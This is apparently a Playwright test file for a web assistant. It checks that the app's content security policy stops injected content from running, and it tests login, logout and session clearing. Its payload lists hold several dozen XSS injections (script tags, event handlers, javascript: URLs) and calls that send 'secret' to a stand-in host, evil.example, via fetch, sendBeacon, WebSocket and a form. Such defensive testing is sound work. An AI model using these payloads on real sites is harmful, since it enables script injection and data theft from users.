"""The content security policy in a real Chromium: the page breaks no rule of it, and what is injected does not run. Logging in and out."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe

from assistant.access.accounts import Accounts, add_user, remove_user
from assistant.access.terms import Terms
from assistant.pipeline import Assistant
from assistant.settings import Settings
from tests.browser import PHONE, WIDE, Visit, served, visiting

pytestmark = pytest.mark.browser

HELPLINES = "what must Romania do on helplines?"
PASSWORD = "several words are best"
# Each tries to run a script, to send something elsewhere or to make the page another's; `window.broken` says that it could.
RUN = "window.broken = (window.broken ?? 0) + 1"
EVIL = "https://evil.example"
MARKUP = (
    f"<script>{RUN}</script>", f"<img src=x onerror='{RUN}'>", f"<svg onload='{RUN}'></svg>", f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<details open ontoggle='{RUN}'></details>", f"<input autofocus onfocus='{RUN}'>", f"<body onload='{RUN}'>",
    f"<video><source onerror='{RUN}'></video>", f"<a id=evil href='javascript:{RUN}'>x</a>",
    f"<object data='data:text/html,<script>{RUN}</script>'>",
    f"<embed src='data:text/html,<script>{RUN}</script>'>", f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<form id=evilform action='{EVIL}'><input name=q value=secret></form>", f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<link rel=stylesheet href='{EVIL}/x.css'>",
    f"<img src='{EVIL}/x.png'>",
    f"<style>@import '{EVIL}/y.css'; body {{ background: url({EVIL}/z.png) }}</style>", f"<iframe src='{EVIL}'></iframe>",
    f"<audio src='{EVIL}/a.mp3' autoplay></audio>", f"<link rel=preload as=script href='{EVIL}/p.js'>",
    f"<link rel=prefetch href='{EVIL}/f'>",
)  # fmt: skip
SCRIPTS = (
    f"e = document.createElement('script'); e.textContent = '{RUN}'; document.body.append(e)",
    f"e = document.createElement('script'); e.src = '{EVIL}/x.js'; document.body.append(e)",
    f"e = document.createElement('script'); e.src = 'data:text/javascript,{RUN}'; document.body.append(e)",
    f"e = document.createElement('script'); e.src = URL.createObjectURL(new Blob(['{RUN}'])); document.body.append(e)",
    "e = document.createElement('script'); e.src = '/page/state'; document.body.append(e)",
    f"e = document.createElement('div'); e.setAttribute('onclick', '{RUN}'); document.body.append(e); e.click()",
    f"fetch('{EVIL}/?q=secret').catch(() => 0)", f"navigator.sendBeacon('{EVIL}', 'secret')", f"new Image().src = '{EVIL}/i.png'",
    "try { new WebSocket('wss://evil.example') } catch {}", f"try {{ new EventSource('{EVIL}') }} catch {{}}",
    f"try {{ new Worker(URL.createObjectURL(new Blob(['fetch(\"{EVIL}\")']))) }} catch {{}}",
    f"e = document.createElement('iframe'); e.src = '{EVIL}'; document.body.append(e)",
    f"import('{EVIL}/m.js').catch(() => 0)",
)  # fmt: skip
WATCH = """
window.refused = [];
document.addEventListener("securitypolicyviolation", (event) => window.refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


@pytest.fixture
def watched(browser: Any, assistant: Assistant, settings: Settings) -> Iterator[Visit]:
    with served(assistant, index_dir=settings.index_dir) as address, visiting(browser, address) as visit:
        visit.page.add_init_script(WATCH)
        visit.page.reload()
        visit.page.wait_for_selector("#lz-columns[data-tab]")
        yield visit


def test_the_page_breaks_no_rule_of_its_policy(watched: Visit, tmp_path: Path):
    page = watched.page
    turn = watched.ask(HELPLINES)
    turn.locator(".lz-why summary").click()
    turn.locator("table").wait_for()
    turn.locator("[data-collect-turn]").click()
    turn.locator(".lz-card [data-show]").first.click()
    assert watched.saved(page.get_by_role("button", name="Save as Word"), tmp_path).stat().st_size > 5000
    page.get_by_role("button", name="Levels of urgency").click()
    page.keyboard.press("Escape")
    watched.tab("Browse")
    page.locator(".lz-piece").first.click()
    page.locator(".lz-open").first.click()
    watched.tab("Prepare")
    assert watched.saved(page.get_by_role("button", name="Slides"), tmp_path).stat().st_size > 5000
    watched.tab("About")
    page.locator("#lz-language").select_option("ro")
    page.wait_for_function("document.documentElement.lang === 'ro'")
    assert page.evaluate("window.refused") == []
    assert (watched.errors, watched.bad, watched.foreign) == ([], [], [])


def test_what_is_injected_neither_runs_nor_reaches_anybody(watched: Visit):
    page = watched.page
    here = page.url
    failed: list[tuple[str, str]] = []
    page.on("requestfailed", lambda request: failed.append((request.url, request.failure)))
    for markup in MARKUP:
        page.evaluate("(markup) => { const e = document.createElement('div'); e.innerHTML = markup; document.body.append(e); }", markup)
    page.evaluate("document.getElementById('evil').click()")
    page.evaluate("document.getElementById('evilform').submit()")
    for script in SCRIPTS:
        page.evaluate(f"() => {{ let e; {script} }}")
    page.wait_for_timeout(1000)
    assert page.evaluate("window.broken ?? 0") == 0
    assert page.url == here
    stopped = {url for url, why in failed if why == "csp"}
    assert len(stopped) >= 8
    assert [url for url in watched.foreign if url not in stopped] == []
    refused = set(page.evaluate("window.refused.map((each) => each.split(' ')[0])"))
    assert {
        "script-src-elem",
        "script-src-attr",
        "connect-src",
        "img-src",
        "style-src-elem",
        "frame-src",
        "base-uri",
        "form-action",
    } <= refused


def test_logging_in_and_out(browser: Any, assistant: Assistant, tmp_path: Path):
    users = tmp_path / "users"
    for name in ("ana", "bo"):
        add_user(users, name, PASSWORD)
    with served(assistant, terms=Terms(accounts=Accounts(users))) as address:
        context = browser.new_context(viewport=WIDE, locale="fr-FR")
        page = context.new_page()
        page.add_init_script(WATCH)

        def enter(name: str, password: str) -> None:
            page.locator("#name").fill(name)
            page.locator("#password").fill(password)
            page.keyboard.press("Enter")

        page.goto(f"{address}?record=romania:VI-1")
        assert page.locator("html").get_attribute("lang") == "fr"
        for viewport in (WIDE, PHONE):
            page.set_viewport_size(viewport)
            assert Axe().run(page).response["violations"] == []
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        page.set_viewport_size(WIDE)
        assert page.evaluate("document.activeElement.id") == "name"
        enter("ana", "wrong")
        page.get_by_role("alert").wait_for()
        assert page.evaluate("window.refused") == []
        enter("ana", PASSWORD)
        # After the login comes what the link asked for.
        page.wait_for_selector('.lz-linked [data-record="romania:VI-1"]')
        page.locator("#lz-language").select_option("en")
        page.get_by_label("Your question").fill(HELPLINES)
        page.keyboard.press("Enter")
        page.wait_for_selector("#lz-turn-1 .lz-card")
        cookie = context.cookies()[0]
        assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")
        assert page.evaluate("document.cookie") == ""
        page.get_by_role("button", name="Log out").click()
        page.wait_for_selector("#password")
        assert page.evaluate("localStorage.length") == 0
        assert context.cookies() == []
        # A conversation that was left behind is not shown to the next user of the browser.
        page.evaluate(
            "localStorage.setItem('lanzarote.user', '\"ana\"'); localStorage.setItem('lanzarote.basket', '[{\"record\": \"secret\"}]')"
        )
        enter("bo", PASSWORD)
        page.wait_for_selector("#lz-columns[data-tab]")
        assert "secret" not in page.evaluate("JSON.stringify(localStorage)")
        # Who is removed is out at once, and is told so in a line.
        remove_user(users, "bo")
        page.locator("#lz-question").fill(HELPLINES)
        page.keyboard.press("Enter")
        page.wait_for_selector(".lz-failed")
        failed = page.locator(".lz-failed p").inner_text()
        assert failed.startswith(("You are no longer logged in", "Vous n’êtes plus connecté"))
        context.close()
